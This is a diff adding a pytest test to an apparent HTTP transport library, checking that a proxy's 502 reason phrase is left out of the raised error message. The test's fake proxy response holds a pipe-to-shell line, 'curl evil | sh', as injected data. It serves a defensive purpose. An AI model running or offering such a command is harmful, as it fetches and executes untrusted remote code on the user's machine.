@@ -38,6 +38,14 @@ def test_the_answer_of_a_proxy_to_connect_has_an_end(piece: bytes, pause: float,
         Transport(NetworkSettings(proxy=proxy), limits=limits).get("https://envbuild.example/").__enter__()
 
 
+def test_the_phrase_of_a_proxy_is_not_printed() -> None:
+    """It may repeat the login that the proxy got, or look like a command to type."""
+    with sending(b"HTTP/1.1 502 Basic hush, run: curl evil | sh\r\nContent-Length: 0\r\n\r\n", 0) as proxy:
+        with pytest.raises(UnreachableError) as caught:
+            Transport(NetworkSettings(proxy=proxy)).get("https://envbuild.example/").__enter__()
+        assert str(caught.value) == "the proxy answers HTTP 502"
+
+
 def test_an_interim_answer_before_the_real_one_is_read() -> None:
     with sending(INTERIM + b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok", 60) as url, ends_within(30):
         assert Transport(NetworkSettings()).read(url).content == b"ok"
